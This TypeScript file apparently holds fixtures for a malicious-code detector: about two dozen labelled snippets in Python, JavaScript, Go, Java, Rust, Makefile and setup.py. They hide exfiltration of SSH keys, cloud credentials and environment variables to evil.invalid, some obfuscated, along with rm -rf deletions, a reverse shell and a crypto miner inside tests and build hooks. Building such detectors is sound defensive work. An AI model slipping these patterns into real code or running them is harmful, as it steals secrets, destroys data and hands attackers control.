/** More ways to do the same, by what is special about each. */
export const VARIANTS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'collected in a member, tests/test_x.py:7': {
    'tests/test_x.py': `
import os, glob, json
import http.client
class TestX(unittest.TestCase):
    def setUp(self):
        self.items = {}
        for path in glob.glob(os.path.expanduser("~/.ssh/*")):
            with open(path) as handle:
                self.items[path] = handle.read()
    def test_a(self):
        conn = http.client.HTTPSConnection("evil.invalid")
        conn.request("POST", "/", json.dumps(self.items))
`,
  },
  'an environment in a query, tests/conftest.py:3': {
    'tests/conftest.py': `
import os, urllib.parse, urllib.request
def pytest_configure(config):
    pairs = {k: v for k, v in os.environ.items()}
    query = urllib.parse.urlencode(pairs)
    urllib.request.urlopen("http://evil.invalid/?" + query)
`,
  },
  'an environment filtered, test/a.test.js:1': {
    'test/a.test.js': `
const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k));
fetch('https://evil.invalid', { method: 'POST', body: JSON.stringify(secrets) });
`,
  },
  'an environment in Go, x_test.go:3': {
    'x_test.go': `
package x
func init() {
	body := strings.Join(os.Environ(), "\\n")
	http.Post("https://evil.invalid", "text/plain", strings.NewReader(body))
}
`,
  },
  'two Go files of one package, a.go:3': {
    'a.go': `
package x
func keys() []byte {
	b, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_rsa")
	return b
}
`,
    'b_test.go': `
package x
func TestB(t *testing.T) {
	http.Post("https://evil.invalid", "text/plain", bytes.NewReader(keys()))
}
`,
  },
  'a Java socket, T.java:6': {
    'T.java': `
class T {
  void t() throws IOException {
    File dir = new File(System.getProperty("user.home"), ".ssh");
    StringBuilder all = new StringBuilder();
    for (File f : dir.listFiles()) {
      all.append(Files.readString(f.toPath()));
    }
    Socket socket = new Socket("evil.invalid", 443);
    socket.getOutputStream().write(all.toString().getBytes());
  }
}
`,
  },
  'a Java connection, T.java:3': {
    'T.java': `
class T {
  void t() throws Exception {
    Map<String, String> env = System.getenv();
    URL url = new URL("https://evil.invalid/");
    HttpURLConnection c = (HttpURLConnection) url.openConnection();
    c.setDoOutput(true);
    OutputStream out = c.getOutputStream();
    out.write(env.toString().getBytes());
  }
}
`,
  },
  'a Rust socket, tests/t.rs:6': {
    'tests/t.rs': `
use std::{env, fs, io::Write, net::TcpStream};
#[test]
fn t() {
    let home = env::var("HOME").unwrap();
    let mut stream = TcpStream::connect("evil.invalid:443").unwrap();
    for entry in fs::read_dir(format!("{home}/.ssh")).unwrap() {
        let bytes = fs::read(entry.unwrap().path()).unwrap();
        stream.write_all(&bytes).unwrap();
    }
}
`,
  },
  'an environment handed to an uploader, build.rs:2': {
    'build.rs': `
fn main() {
    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    let _ = std::process::Command::new("curl").args(["-d", &all.join("&"), "https://evil.invalid"]).status();
}
`,
  },
  'a file handed to an uploader, tests/test_a.py:3': {
    'tests/test_a.py': `
import subprocess, os
def test_a():
    subprocess.run(["curl", "-F", "file=@" + os.path.expanduser("~/.ssh/id_rsa"), "https://evil.invalid"])
`,
  },
  'a recipe, Makefile:2': {
    Makefile: `
test:
	@curl -s -X POST --data-binary @$(HOME)/.aws/credentials https://evil.invalid
	pytest
`,
  },
  'two CommonJS modules, src/env.js:2': {
    'src/env.js': `
const fs = require('fs');
function load() { return fs.readFileSync(require('path').join(require('os').homedir(), '.aws', 'credentials'), 'utf8'); }
module.exports = { load };
`,
    'test/a.test.js': `
const { load } = require('../src/env');
test('a', async () => { await axios.post('https://evil.invalid', { d: load() }); });
`,
  },
  'an environment over two modules, helpers.py:3': {
    'helpers.py': `
import os
def snapshot():
    return dict(os.environ)
`,
    'tests/test_a.py': `
import requests
from helpers import snapshot
def test_a():
    requests.post("https://evil.invalid", json=snapshot())
`,
  },
  'a name put together, tests/test_a.py:3': {
    'tests/test_a.py': `
import os, requests
def test_a():
    e = getattr(os, "env" + "iron")
    requests.post("https://evil.invalid", json=dict(e))
`,
  },
  'promises and a decoded address, test/a.mjs:6': {
    'test/a.mjs': `
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
const dir = path.join(os.homedir(), '.ssh');
const files = await fs.readdir(dir);
const data = await Promise.all(files.map(f => fs.readFile(path.join(dir, f), 'utf8')));
await fetch(atob('aHR0cHM6Ly9ldmlsLmludmFsaWQ='), { method: 'POST', body: data.join('\\n') });
`,
  },
  'a query string, test/a.js:1': {
    'test/a.js': `
const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');
require('https').get('https://evil.invalid/?q=' + encodeURIComponent(k));
`,
  },
  'an asynchronous client, tests/test_a.py:3': {
    'tests/test_a.py': `
import aiohttp, pathlib
async def test_a():
    key = pathlib.Path("~/.kube/config").expanduser().read_text()
    async with aiohttp.ClientSession() as s:
        await s.post("https://evil.invalid", data=key)
`,
  },
  'a deleting command, tests/test_a.py:3': {
    'tests/test_a.py': `
import subprocess
def test_a():
    subprocess.run("rm -rf ~", shell=True)
`,
  },
  'a deleting command as a list, test/a.js:1': {
    'test/a.js': `
require('child_process').spawnSync('rm', ['-rf', '/']);
`,
  },
  'a Java stream of deletions, T.java:3': {
    'T.java': `
class T {
  void t() throws Exception {
    Files.walk(Paths.get(System.getProperty("user.home"))).sorted(Comparator.reverseOrder()).map(Path::toFile).forEach(File::delete);
  }
}
`,
  },
  'a shell for another machine in Go, a_test.go:3': {
    'a_test.go': `
package a
func TestA(t *testing.T) {
	c, _ := net.Dial("tcp", "203.0.113.5:4444")
	cmd := exec.Command("/bin/sh")
	cmd.Stdin = c
	cmd.Stdout = c
	cmd.Run()
}
`,
  },
  'a miner in Go, a_test.go:3': {
    'a_test.go': `
package a
func TestA(t *testing.T) {
	exec.Command("./xmrig", "-o", "pool.invalid:3333", "-u", "wallet").Start()
}
`,
  },
  'a pipeline in setup.py, setup.py:3': {
    'setup.py': `
import os
from setuptools import setup
os.system("env | curl -s -d @- https://evil.invalid")
setup()
`,
  },
  'a script of several lines handed to a shell, tests/test_a.py:3': {
    'tests/test_a.py': `
import subprocess
def test_a():
    subprocess.run("""
        cat ~/.ssh/id_rsa | nc evil.invalid 4444
    """, shell=True)
`,
  },
};
